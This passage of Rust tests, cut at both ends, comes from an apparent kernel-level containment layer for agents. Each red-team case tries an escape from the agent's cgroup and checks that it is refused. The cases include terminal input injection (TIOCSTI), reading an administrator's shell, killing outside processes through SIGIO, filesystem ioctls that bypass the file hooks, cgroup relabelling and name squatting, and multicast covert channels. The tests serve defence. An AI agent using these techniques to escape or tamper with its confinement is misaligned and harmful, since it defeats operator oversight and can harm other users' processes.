    let case = "R27 setsockopt(IPV6_FREEBIND): IPv6 sent from an address the node need not own";
    let ev = deny(
        &mut k,
        &fx,
        case,
        &Attempt::SetSockOpt {
            family: libc::AF_INET6,
            ty: libc::SOCK_DGRAM,
            level: libc::IPPROTO_IPV6,
            name: 78, // IPV6_FREEBIND
            value: 1i32.to_ne_bytes().to_vec(),
        },
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(
        ev.detail,
        governance_common::guard::FOREIGN_SOURCE,
        "{case}"
    );
    // A reuseport group's steering program: one `ret` and every connection of a service that
    // shares the agent socket's port is the agent's (round 32). Outside, the kernel refuses
    // the empty program itself (EINVAL), never EPERM.
    let case = "R32 setsockopt(SO_ATTACH_REUSEPORT_CBPF): a reuseport group's steering program";
    let ev = deny(
        &mut k,
        &fx,
        case,
        &Attempt::SetSockOpt {
            family: libc::AF_INET,
            ty: libc::SOCK_DGRAM,
            level: libc::SOL_SOCKET,
            name: 51, // SO_ATTACH_REUSEPORT_CBPF
            value: vec![0; std::mem::size_of::<libc::sock_fprog>()],
        },
        Kind::Guard,
        Control::NotEperm,
    );
    assert_eq!(
        ev.detail,
        governance_common::guard::REUSEPORT_STEER,
        "{case}"
    );
    // sendmmsg asks socket_sendmsg about its first message only, and about a later one only
    // when its address differs: a routing header on the second datagram to the same address
    // is the packet's to refuse (sequence_egress; red team round 24). The packet's event has
    // no process (the packet program runs in no task of its own).
    let case = "40 sendmmsg: a routing header on the second datagram to the same address";
    let attempt = Attempt::SendMsgCmsg {
        addr: "[::1]:9".parse().unwrap(),
        level: libc::IPPROTO_IPV6,
        ty: libc::IPV6_RTHDR,
        data: [&[0u8, 2, 2, 1, 0, 0, 0, 0][..], &[0; 15], &[1]].concat(),
        after_plain: true,
    };
    println!("redteam: tried {case}");
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let ev = k.event_where(|e| {
        e.agent_cgroup == fx.agent.id()
            && e.tgid == 0
            && Kind::from_u8(e.kind) == Some(Kind::Guard)
            && e.detail == governance_common::guard::SOURCE_ROUTE
    });
    assert_eq!(ev.flags & flags::DENIED, flags::DENIED, "{case}");
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &attempt);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");
    // Multicast memberships: the kernel's IGMP and MLD reports carry the group and the sources
    // the agent chose onto the link, on packets no socket owns (red team round 15).
    let v4 = |a: [u8; 4]| a.to_vec();
    let ipv6_group: Vec<u8> = [0xff0e_u16, 0, 0, 0, 0, 0x5345, 0x4352, 0x4554]
        .iter()
        .flat_map(|w| w.to_be_bytes())
        .collect();
    // struct group_req: the interface, padding, then a sockaddr_storage (sockaddr_in6).
    let mut group_req = vec![0u8; 136];
    group_req[..4].copy_from_slice(&1u32.to_ne_bytes());
    group_req[8..10].copy_from_slice(&(libc::AF_INET6 as u16).to_ne_bytes());
    group_req[16..32].copy_from_slice(&ipv6_group);
    let cases = [
        (
            "40 setsockopt(IP_ADD_MEMBERSHIP): join a multicast group",
            libc::AF_INET,
            libc::IPPROTO_IP,
            libc::IP_ADD_MEMBERSHIP,
            // struct ip_mreqn: the group, any local address, the loopback's index.
            [v4([239, 1, 2, 3]), v4([0; 4]), 1i32.to_ne_bytes().to_vec()].concat(),
        ),
        (
            "40 setsockopt(IP_ADD_SOURCE_MEMBERSHIP): sources of the agent's choosing",
            libc::AF_INET,
            libc::IPPROTO_IP,
            libc::IP_ADD_SOURCE_MEMBERSHIP,
            // struct ip_mreq_source: the group, the interface, a "source" ("SECR").
            [v4([239, 1, 2, 3]), v4([127, 0, 0, 1]), v4(*b"SECR")].concat(),
        ),
        (
            "40 setsockopt(IPV6_ADD_MEMBERSHIP): join an IPv6 group (112 bits chosen)",
            libc::AF_INET6,
            libc::IPPROTO_IPV6,
            libc::IPV6_ADD_MEMBERSHIP,
            [ipv6_group.clone(), 1i32.to_ne_bytes().to_vec()].concat(),
        ),
        (
            "40 setsockopt(MCAST_JOIN_GROUP) at the IPv6 level",
            libc::AF_INET6,
            libc::IPPROTO_IPV6,
            42, // MCAST_JOIN_GROUP
            group_req,
        ),
    ];
    for (case, family, level, name, value) in cases {
        let attempt = Attempt::SetSockOpt {
            family,
            ty: libc::SOCK_DGRAM,
            level,
            name,
            value,
        };
        let ev = deny(&mut k, &fx, case, &attempt, Kind::Guard, Control::NotEperm);
        assert_eq!(ev.detail, governance_common::guard::MULTICAST, "{case}");
    }
    // Control in the agent: a multicast option that joins nothing (the TTL of its sends).
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::SetSockOpt {
            family: libc::AF_INET,
            ty: libc::SOCK_DGRAM,
            level: libc::IPPROTO_IP,
            name: libc::IP_MULTICAST_TTL,
            value: 4i32.to_ne_bytes().to_vec(),
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "IP_MULTICAST_TTL in the agent");
    // A control message that routes nothing (the datagram's TOS) goes out from the agent.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::SendMsgCmsg {
            addr: local(9),
            level: libc::IPPROTO_IP,
            ty: libc::IP_TOS,
            data: 16i32.to_ne_bytes().to_vec(),
            after_plain: false,
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "a TOS control message");
    drop(victim);
}

/// Red team round 36, F2: an agent made cgroups in its own subtree named like interface files
/// (`memory.max`); the operator's later `+memory` in the parent's `cgroup.subtree_control` then
/// failed (the kernel could not add that file to the cgroup holding the name: EEXIST), and no
/// sibling agent got memory limits. A new cgroup whose name begins with a controller's name or
/// `cgroup`, then a dot, is refused to agents at `inode_mkdir`; other names (systemd's units,
/// a controller's name without its dot, or as part of a longer word) are made as before, and
/// outside the agent every name is. Renaming a cgroup to such a name is refused by cgroup2
/// itself, in and out of the agent.
#[test]
fn cgroups_named_like_interface_files_are_refused() {
    use std::os::unix::fs::MetadataExt as _;
    require_root();
    let fx = Fixture::new("cgname");
    let mut k = fx.load("");
    k.require("inode_mkdir");
    // A child cgroup of the agent's, for which no controller is enabled: none of these names is
    // one of its files yet.
    let squat = fx.agent.child("squat");
    let squat_id = std::fs::metadata(&squat).unwrap().ino();
    for name in [
        "memory.max",
        "memory.high",
        "cgroup.foo",
        "pids.x",
        "cpu.max",
        "io.max",
    ] {
        let path = squat.join(name);
        let case = format!("R36 make a cgroup named {name} in the agent's subtree");
        let ev = deny(
            &mut k,
            &fx,
            &case,
            &Attempt::Mkdir { path: cstr(&path) },
            Kind::Guard,
            Control::Succeeds,
        );
        assert_eq!(ev.detail, governance_common::guard::CGROUP_NAME, "{case}");
        assert_eq!(
            ev.object, squat_id,
            "{case}: the parent cgroup in the event"
        );
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
        // The control made it from outside: removed for the next case.
        std::fs::remove_dir(&path).unwrap();
    }
    // In its own root cgroup too.
    let path = fx.agent.path.join("pids.max.squat");
    let ev = deny(
        &mut k,
        &fx,
        "R36 make a cgroup named pids.max.squat in the agent's root cgroup",
        &Attempt::Mkdir { path: cstr(&path) },
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::CGROUP_NAME);
    assert_eq!(ev.object, fx.agent.id());
    std::fs::remove_dir(&path).unwrap();
    // Names no interface file has: made in the agent as before.
    for name in [
        "sub",
        "foo.service",
        "user.slice",
        "docker-0123.scope",
        "memoryx.y",
        "memory",
        "xcgroup.y",
    ] {
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::Mkdir {
                path: cstr(&squat.join(name)),
            },
        );
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "mkdir {name}: inside the agent"
        );
    }
    // cgroup2 has no rename (kernfs without the operation: EPERM), in the agent and outside.
    for (who, cgroup) in [("agent", &fx.agent.path), ("outsider", &fx.outsider.path)] {
        let (_, outcome) = run_in(
            Some(cgroup),
            who,
            &Attempt::Rename {
                from: cstr(&squat.join("sub")),
                to: cstr(&squat.join("cpu.max")),
            },
        );
        assert_eq!(
            outcome,
            Outcome::Errno(libc::EPERM),
            "rename to cpu.max: {who}"
        );
    }
    assert!(squat.join("sub").is_dir() && !squat.join("cpu.max").exists());
}

/// Built-ins against others acting for an agent, and against changing what makes it one; and
/// the sockets an agent gets are only those the network hooks decide on. Each refusal has its
/// control outside the agent; what an agent ordinarily does still works.
#[test]
fn guards_against_proxies_relabelling_and_unmediated_sockets() {
    require_root();
    let fx = Fixture::new("guards");
    let mut k = fx.load("");
    for hook in [
        "kernel_module_request",
        "file_ioctl",
        "file_fcntl",
        "inode_setxattr",
        "inode_removexattr",
    ] {
        k.require(hook);
    }
    // Module autoloading: opening a character device nobody registered asks for a module.
    let dev = fx.p("char-240-0");
    let rc = unsafe {
        libc::mknod(
            cstr(&dev).as_ptr(),
            libc::S_IFCHR | 0o600,
            libc::makedev(240, 0),
        )
    };
    assert_eq!(rc, 0, "mknod");
    println!("redteam: tried 32 module autoload by opening an unclaimed device");
    let (pid, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&dev, libc::O_RDONLY),
    );
    assert_eq!(outcome, Outcome::Errno(libc::ENXIO), "no driver, no module");
    let ev = k.event_where(|e| e.tgid == pid && Kind::from_u8(e.kind) == Some(Kind::Guard));
    assert_eq!(ev.detail, governance_common::guard::MODULE_REQUEST);
    assert_ne!(ev.flags & flags::DENIED, 0);
    println!("redteam: denied 32 module autoload by opening an unclaimed device");
    let (pid, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::open(&dev, libc::O_RDONLY),
    );
    assert_eq!(outcome, Outcome::Errno(libc::ENXIO));
    assert!(k.try_event_for(pid, Duration::from_millis(100)).is_none());
    println!("redteam: control 32 module autoload by opening an unclaimed device");

    // Terminal input injection into a tty someone else reads.
    let (master, slave) = pty();
    let slave = PathBuf::from(slave.to_str().unwrap());
    deny(
        &mut k,
        &fx,
        "33 TIOCSTI into a terminal",
        &Attempt::Ioctl {
            path: cstr(&slave),
            cmd: libc::TIOCSTI,
            byte: b'x',
        },
        Kind::Guard,
        Control::Succeeds,
    );
    // The same through the 32-bit entry, which asks file_ioctl_compat (red team round 6).
    k.require("file_ioctl_compat");
    let ev = deny(
        &mut k,
        &fx,
        "R6 TIOCSTI into a terminal through the 32-bit ioctl entry",
        &Attempt::IoctlCompat {
            path: cstr(&slave),
            cmd: libc::TIOCSTI,
            byte: b'x',
        },
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::TERMINAL_INPUT);
    unsafe { libc::close(master) };

    // A filesystem's ioctls that change files past the file hooks (red team round 19): a btrfs
    // snapshot or subvolume puts a tree of files under any name (/etc, /usr) with no create
    // the hooks see, and carries a copy of a file agents wrote under the same key; ext4's,
    // XFS's and F2FS's extent moves replace a file's contents with no write. Refused by
    // command in the agent (the file here is on tmpfs: outside, its filesystem answers ENOTTY,
    // so the hook decides before the filesystem does); the VFS's own clone ioctl (0x94 too)
    // passes.
    let plain = fx.p("scratch/ioctl-target");
    std::fs::write(&plain, "data").unwrap();
    // _IOC(dir, type, nr, size) = dir << 30 | size << 16 | type << 8 | nr.
    let ioc = |dir: u64, kind: u8, nr: u8, size: u64| {
        dir << 30 | size << 16 | u64::from(kind) << 8 | u64::from(nr)
    };
    let (write, readwrite) = (1, 3);
    // Refused in the agent as a filesystem ioctl, naming the command; not EPERM outside.
    let refused_ioctl = |k: &mut Loaded, case: &str, cmd: u64, target: &Path| {
        let ev = deny(
            k,
            &fx,
            case,
            &Attempt::Ioctl {
                path: cstr(target),
                cmd,
                byte: 0,
            },
            Kind::Guard,
            Control::NotEperm,
        );
        assert_eq!(
            ev.detail,
            governance_common::guard::FILESYSTEM_IOCTL,
            "{case}"
        );
        assert_eq!(ev.object, cmd, "{case}: the command");
    };
    for (case, cmd) in [
        ("R19 btrfs SNAP_CREATE_V2", ioc(write, 0x94, 23, 4096)),
        ("R19 btrfs SUBVOL_CREATE", ioc(write, 0x94, 14, 4096)),
        ("R19 btrfs SUBVOL_SETFLAGS", ioc(write, 0x94, 26, 8)),
        ("R19 btrfs DEFAULT_SUBVOL", ioc(write, 0x94, 19, 8)),
        ("R19 bcachefs SUBVOLUME_CREATE", ioc(write, 0xbc, 16, 24)),
        ("R19 bcachefs SUBVOLUME_CREATE_v2", ioc(write, 0xbc, 29, 40)),
        ("R19 ext4 MOVE_EXT", ioc(readwrite, b'f', 15, 40)),
        ("R19 ext4 SWAP_BOOT", ioc(0, b'f', 17, 0)),
        ("R19 XFS SWAPEXT", ioc(readwrite, b'X', 109, 176)),
        ("R19 F2FS MOVE_RANGE", ioc(readwrite, 0xf5, 9, 32)),
        ("R20 fscrypt SET_ENCRYPTION_POLICY", ioc(2, b'f', 19, 12)),
        ("R20 OCFS2 REFLINK", ioc(write, b'o', 4, 24)),
        ("R20 FAT SET_ATTRIBUTES", ioc(write, b'r', 0x11, 4)),
        // Red team round 29: an unlocked fscrypt home locked through any descriptor; and a
        // dedupe's same-or-differs answer, a content oracle on a file opened write-only.
        (
            "R29 fscrypt REMOVE_ENCRYPTION_KEY",
            ioc(readwrite, b'f', 24, 64),
        ),
        (
            "R29 fscrypt REMOVE_ENCRYPTION_KEY_ALL_USERS",
            ioc(readwrite, b'f', 25, 64),
        ),
        ("R29 FIDEDUPERANGE", ioc(readwrite, 0x94, 54, 24)),
    ] {
        refused_ioctl(&mut k, case, cmd, &plain);
    }
    // Red team round 30: ENABLE_VERITY (a file the agent may only read made unwritable for
    // good); SETFLAGS on a directory (one the agent owns made case-insensitive), with zeroes
    // for the flags; on a file SETFLAGS passes (`chattr +C`), the control in the agent.
    let setflags = ioc(write, b'f', 2, 8);
    refused_ioctl(
        &mut k,
        "R30 fs-verity ENABLE_VERITY",
        ioc(write, b'f', 133, 128),
        &plain,
    );
    let flags_dir = fx.p("scratch/ioctl-dir");
    std::fs::create_dir_all(&flags_dir).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "R30 FS_IOC_SETFLAGS on a directory (casefold)",
        &Attempt::IoctlZeroed {
            path: cstr(&flags_dir),
            cmd: setflags,
        },
        Kind::Guard,
        Control::NotEperm,
    );
    assert_eq!(ev.detail, governance_common::guard::FILESYSTEM_IOCTL);
    let flags_file = fx.p("scratch/ioctl-flags");
    std::fs::write(&flags_file, "data").unwrap();
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::IoctlZeroed {
            path: cstr(&flags_file),
            cmd: setflags,
        },
    );
    assert_ne!(outcome, Outcome::Errno(libc::EPERM), "SETFLAGS on a file");
    // Controls in the agent: FICLONE (the VFS's, type 0x94, through the write hooks) and
    // ext4's GROUP_EXTEND ('f' 7) are the filesystem's to answer (neither writes to the
    // argument).
    for (case, cmd) in [
        ("FICLONE", ioc(write, 0x94, 9, 4)),
        ("ext4 GROUP_EXTEND", ioc(write, b'f', 7, 8)),
    ] {
        let (pid, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::Ioctl {
                path: cstr(&plain),
                cmd,
                byte: 0,
            },
        );
        assert_ne!(outcome, Outcome::Errno(libc::EPERM), "{case} in the agent");
        assert!(
            k.try_event_for(pid, Duration::from_millis(100))
                .is_none_or(|e| e.flags & flags::DENIED == 0),
            "{case}: no denial"
        );
    }

    // A terminal another session holds: an administrator's shell, whose every typed line
    // (a password among them) an agent that opened it would race the shell for (red team round
    // 6, K4). A session leader outside the agent takes the pty as its controlling terminal;
    // the agent may not open it, anyone outside may. (The pty above, which no session holds,
    // the agent opened for its TIOCSTI: a pty it made itself, or one no session holds, stays
    // open to it.)
    let (admin_master, admin_slave) = pty();
    let admin_slave = PathBuf::from(admin_slave.to_str().unwrap());
    let admin = outside_process(&[
        "setsid",
        "sh",
        "-c",
        &format!(
            "exec 0<>{} 1>&0 2>&0; exec sleep 600",
            admin_slave.display()
        ),
    ]);
    let stat = format!("/proc/{}/stat", admin.id());
    governance_tests::wait_until(
        "the outside shell to take the pty as its controlling terminal",
        Duration::from_secs(10),
        || {
            // tty_nr, the 5th field after the command's `)`.
            std::fs::read_to_string(&stat)
                .ok()
                .and_then(|s| {
                    s.rsplit(')')
                        .next()?
                        .split_whitespace()
                        .nth(4)
                        .map(str::to_owned)
                })
                .is_some_and(|tty| tty != "0")
        },
    );
    let ev = deny(
        &mut k,
        &fx,
        "R7 open a terminal another session holds (an administrator's shell)",
        &Attempt::open(&admin_slave, libc::O_RDONLY | libc::O_NOCTTY),
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::OTHER_TERMINAL);
    drop(admin);
    unsafe { libc::close(admin_master) };

    // Signal ownership handed to a process outside the agent.
    let mut bystander = std::process::Command::new(BUSYBOX)
        .args(["sleep", "600"])
        .spawn()
        .unwrap();
    deny(
        &mut k,
        &fx,
        "34 F_SETOWN to a process outside the agent",
        &Attempt::SetOwn {
            pid: bystander.id() as i32,
        },
        Kind::Guard,
        Control::Succeeds,
    );
    let _ = bystander.kill();
    let _ = bystander.wait();
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &Attempt::SetOwn { pid: 0 });
    assert_eq!(outcome, Outcome::Exited(0), "F_SETOWN to itself");

    // The agent label, and cgroup renames.
    let label = c"user.governance.agent".to_owned();
    deny(
        &mut k,
        &fx,
        "35 relabel its own cgroup",
        &Attempt::SetXattr {
            path: cstr(&fx.agent.path),
            name: label.clone(),
            value: b"someone-else".to_vec(),
        },
        Kind::Guard,
        Control::Succeeds,
    );
    deny(
        &mut k,
        &fx,
        "35 remove its own cgroup's label",
        &Attempt::RemoveXattr {
            path: cstr(&fx.agent.path),
            name: label,
        },
        Kind::Guard,
        Control::Succeeds,
    );
    let kid = fx.agent.path.join("kid");
    std::fs::create_dir(&kid).unwrap();
    // (Renaming a cgroup, which a path selector would then miss, cgroup2 refuses to everyone.)
    let (_, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::Rename {
            from: cstr(&kid),
            to: cstr(&fx.agent.path.join("kid2")),
        },
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "cgroup2 renames");

    // The agent root's own limits are the operator's; its children's are its own.
    deny(
        &mut k,
        &fx,
        "36 raise its own cgroup's limits",
        &Attempt::write(&fx.agent.path.join("cgroup.max.descendants"), "max"),
        Kind::File,
        Control::Succeeds,
    );
    allow(
        &mut k,
        &fx,
        "a limit of its own child cgroup",
        &Attempt::write(&kid.join("cgroup.max.descendants"), "5"),
    );
    let _ = std::fs::remove_dir(&kid);

    // Only the sockets the network hooks decide on.
    for (case, family, ty, protocol) in [
        (
            "37 vsock socket (to the host)",
            libc::AF_VSOCK,
            libc::SOCK_STREAM,
            0,
        ),
        (
            "37 ICMP ping socket",
            libc::AF_INET,
            libc::SOCK_DGRAM,
            libc::IPPROTO_ICMP,
        ),
        (
            "37 SCTP socket",
            libc::AF_INET,
            libc::SOCK_STREAM,
            libc::IPPROTO_SCTP,
        ),
        ("37 AF_ALG socket", libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
    ] {
        deny(
            &mut k,
            &fx,
            case,
            &Attempt::Socket {
                family,
                ty,
                protocol,
            },
            Kind::Socket,
            Control::NotEperm,
        );
    }
    for (case, family, ty) in [
        ("unix socket", libc::AF_UNIX, libc::SOCK_STREAM),
        ("TCP socket", libc::AF_INET6, libc::SOCK_STREAM),
        ("UDP socket", libc::AF_INET, libc::SOCK_DGRAM),
    ] {
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::Socket {
                family,
                ty,
                protocol: 0,
            },
        );
        assert_eq!(outcome, Outcome::Exited(0), "{case}");
    }
}

/// System V IPC objects made outside the agent (a database's shared memory, a service's message
/// queue) are out of its reach, root or not; its own objects work as usual.
/// A new pseudo-terminal: its master (a descriptor children inherit) and its slave's path.
/// Mounts devpts at /dev/pts first if the VM has none.
fn pty() -> (i32, std::ffi::CString) {
    if !Path::new("/dev/pts/ptmx").exists() {
        std::fs::create_dir_all("/dev/pts").unwrap();
        let rc = unsafe {
            libc::mount(
                c"devpts".as_ptr(),
                c"/dev/pts".as_ptr(),
                c"devpts".as_ptr(),
                0,
                c"ptmxmode=0666".as_ptr().cast(),
            )
        };
        assert_eq!(rc, 0, "mount devpts");
    }
    let master = unsafe { libc::open(c"/dev/pts/ptmx".as_ptr(), libc::O_RDWR | libc::O_NOCTTY) };
    assert!(master >= 0, "open ptmx");
    let mut n: libc::c_int = 0;
    let mut unlock: libc::c_int = 0;
    assert_eq!(unsafe { libc::ioctl(master, libc::TIOCGPTN, &mut n) }, 0);
    assert_eq!(
        unsafe { libc::ioctl(master, libc::TIOCSPTLCK, &mut unlock) },
        0
    );
    (
        master,
        std::ffi::CString::new(format!("/dev/pts/{n}")).unwrap(),
    )
}

/// A process outside every agent, in a session of its own whose controlling terminal is
/// `slave`: the terminal's foreground process group (a shell's job, or the daemon started
/// from a terminal).
fn tty_foreground(slave: &std::ffi::CString) -> std::process::Child {
    use std::os::unix::process::CommandExt;
    let slave = slave.clone();
    let mut cmd = std::process::Command::new(BUSYBOX);
    cmd.args(["sleep", "600"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null());
    // SAFETY: raw syscalls only, between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            // A session leader without a terminal takes the first it opens: the slave.
            if libc::setsid() < 0 || libc::open(slave.as_ptr(), libc::O_RDWR) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    cmd.spawn().unwrap()
}

/// A process's state letter in /proc/PID/stat (R, S, T, Z...), or '-' once it is gone.
fn proc_state(pid: u32) -> char {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| {
            let after = &s[s.rfind(')')? + 1..];
            after.trim_start().chars().next()
        })
        .unwrap_or('-')
}

/// Arms the terminal `argv[1]` for SIGIO with signal `argv[2]` (`F_SETSIG`, `O_ASYNC`: the
/// terminal's foreground group becomes the file's owner), says `ready`, and holds it until its
/// stdin ends.
const ARM_SIGIO: &str = "import fcntl, os, sys
fd = int(sys.argv[1])
fcntl.fcntl(fd, 10, int(sys.argv[2]))
fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
print('ready', flush=True)
sys.stdin.read()
";

/// A descriptor of the terminal `slave` (O_RDWR | O_NOCTTY | O_NONBLOCK), opened here, outside
/// every agent, and inherited by the processes the test starts (no O_CLOEXEC).
fn open_tty(slave: &std::ffi::CString) -> i32 {
    let fd = unsafe {
        libc::open(
            slave.as_ptr(),
            libc::O_RDWR | libc::O_NOCTTY | libc::O_NONBLOCK,
        )
    };
    assert!(fd >= 0, "open {slave:?}");
    fd
}

/// Input for the terminal `slave` (written to its `master`), waited for until the line
/// discipline is done with it: readable, then a flush, which waits for the receive (and the
/// SIGIO it raises) to end, and empties it.
fn raise_tty_input(master: i32, slave: &std::ffi::CString) {
    let fd = open_tty(slave);
    assert_eq!(unsafe { libc::write(master, b"x\n".as_ptr().cast(), 2) }, 2);
    let mut pfd = libc::pollfd {
        fd,
        events: libc::POLLIN,
        revents: 0,
    };
    assert_eq!(
        unsafe { libc::poll(&mut pfd, 1, 20_000) },
        1,
        "input on {slave:?}"
    );
    assert_eq!(unsafe { libc::tcflush(fd, libc::TCIFLUSH) }, 0);
    unsafe { libc::close(fd) };
}

/// Whether `child` ended (killed) or stopped within 20 s.
fn killed_or_stopped(child: &mut std::process::Child) -> bool {
    governance_tests::poll_until(Duration::from_secs(20), || {
        child.try_wait().unwrap().is_some() || proc_state(child.id()) == 'T'
    })
}

/// The red team's terminal SIGIO (round 4): an agent opens a terminal whose foreground group is
/// outside it, chooses SIGKILL or SIGSTOP for its SIGIO (`F_SETSIG`) and turns on asynchronous
/// notification (`O_ASYNC`, or `ioctl(FIOASYNC)`): the terminal makes its foreground group the
/// file's owner (`__tty_fasync`), and the kernel's SIGIO for the next input, sent from a
/// kworker, asks no `task_kill`. Refused in `file_send_sigiotask`, decided on the file the
/// agent armed; the victim lives. The control (the same from outside the agent) kills or stops
/// its own victim: the path is real. An agent's own asynchronous notification, on a pipe and on
/// a terminal of its own, still reaches it.
#[test]
fn sigio_of_files_agents_armed_reaches_no_process_outside() {
    require_root();
    let fx = Fixture::new("sigio");
    let mut k = fx.load("");
    for hook in [
        "file_fcntl",
        "file_ioctl",
        "file_send_sigiotask",
        "file_free_security",
    ] {
        k.require(hook);
    }
    let (master, slave) = pty();
    let mut victim = tty_foreground(&slave);
    governance_tests::wait_until("the victim to sleep", Duration::from_secs(20), || {
        proc_state(victim.id()) == 'S'
    });
    for (case, fioasync, sig) in [
        (
            "36 SIGKILL through a terminal's SIGIO owner (O_ASYNC)",
            false,
            libc::SIGKILL,
        ),
        (
            "36 SIGKILL through a terminal's SIGIO owner (FIOASYNC)",
            true,
            libc::SIGKILL,
        ),
        (
            "36 SIGSTOP through a terminal's SIGIO owner (O_ASYNC)",
            false,
            libc::SIGSTOP,
        ),
    ] {
        println!("redteam: tried {case}");
        // The terminal handed to the agent (inherited), as an agent started from a shell's
        // terminal holds it: an agent may not open it by its name (`OTHER_TERMINAL`).
        let tty = open_tty(&slave);
        let attempt = Attempt::TtySigio {
            tty,
            master,
            sig,
            fioasync,
        };
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
        unsafe { libc::close(tty) };
        // Arming passes (the agent may use SIGIO itself); the signal outside does not.
        assert_eq!(outcome, Outcome::Exited(0), "{case}: in the agent");
        let ev = k.event_where(|e| {
            e.tgid == pid
                && e.flags & flags::DENIED != 0
                && Kind::from_u8(e.kind) == Some(Kind::Signal)
        });
        assert_eq!(ev.object, u64::from(victim.id()), "{case}: event target");
        assert_eq!(i32::from(ev.port), sig, "{case}: event signal");
        assert_eq!(ev.detail, governance_common::SIGNAL_DETAIL_SIGIO, "{case}");
        assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: event agent");
        assert_eq!(ev.cgroup_id, fx.agent.id(), "{case}: event cgroup");
        assert_eq!(ev.generation, k.generation, "{case}: event generation");
        assert_eq!(text(&ev.comm), "agent", "{case}: comm");
        assert!(
            victim.try_wait().unwrap().is_none(),
            "{case}: victim killed"
        );
        assert_eq!(proc_state(victim.id()), 'S', "{case}: victim stopped");
        println!("redteam: denied {case}");
        // The control: the same from outside the agent, on a terminal of its own.
        let (m, s) = pty();
        // `spawn` returns after the exec: it holds the terminal by then.
        let mut own = tty_foreground(&s);
        let tty = open_tty(&s);
        let attempt = Attempt::TtySigio {
            tty,
            master: m,
            sig,
            fioasync,
        };
        let (pid, outcome) = run_in(Some(&fx.outsider.path), "outsider", &attempt);
        unsafe { libc::close(tty) };
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        assert!(killed_or_stopped(&mut own), "{case}: control's signal");
        assert!(
            k.try_event_for(pid, Duration::from_millis(100)).is_none(),
            "{case}: no event outside the agent"
        );
        let _ = own.kill();
        let _ = own.wait();
        unsafe { libc::close(m) };
        println!("redteam: control {case}");
    }
    let _ = victim.kill();
    let _ = victim.wait();
    unsafe { libc::close(master) };
    // The agent's own SIGIO: a pipe, and a terminal whose foreground group is its own.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::SelfSigio { ptmx: None },
    );
    assert_eq!(outcome, Outcome::Exited(0), "SIGIO of its own pipe");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::SelfSigio {
            ptmx: Some(c"/dev/pts/ptmx".to_owned()),
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "SIGIO of its own terminal");
}

/// One job-control step by a process A in a terminal session: `argv[1]` is the `cgroup.procs`
/// of the cgroup A joins (`-`: none), `argv[2]` the case, `argv[3]` and `argv[4]` a new pty's
/// master (a descriptor) and slave (a path). A session leader takes the pty as its controlling
/// terminal (its group is the foreground one); for the cases named `own-…` the leader joins
/// the cgroup first, so the session is led inside it. B, a background job of the session,
/// writes a beat to a pipe every 20 ms. A is forked by the leader and, for the terminal
/// accesses, put in B's group before it joins the cgroup (as a wrapper that made no group of
/// its own would leave it); then A reads, writes or sets the terminal, joins B's group, makes
/// B's group the foreground, or takes the terminal into a session of its own. Prints
/// `a PID`, `b PID`, `leader PID`, then `a: ok`, `a: ERRNO` or `a: stopped SIG` (waited for),
/// then `b: running` (three beats after A's answer, within 10 s) or `b: stopped SIG` (B's
/// stop waited for, then B continued with SIGCONT).
const JOB_CONTROL: &str = r#"import errno, fcntl, os, select, signal, struct, sys, termios, time
def deadline(who, seconds):
    # A step that never returns: say which process, and end it (alarms are not inherited).
    def expired(*_):
        os.write(2, f'{who}: no answer within {seconds} s\n'.encode())
        os._exit(3)
    signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
deadline('script', 60)
procs, case, m = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = os.open(sys.argv[4], os.O_RDWR | os.O_NOCTTY)
beat_r, beat_w = os.pipe()
res_r, res_w = os.pipe()
os.write(m, b'x\n')
if case == 'hangup':
    # The hangup's SIGHUP would end the leader (and A) before they answer.
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
def join(procs):
    if procs != '-':
        with open(procs, 'w') as f:
            f.write('0')
leader = os.fork()
if leader == 0:
    deadline('leader', 50)
    if case.startswith('own-'):
        join(procs)
    os.setsid()
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
    if case.endswith('tostop'):
        t = termios.tcgetattr(s)
        t[3] |= termios.TOSTOP
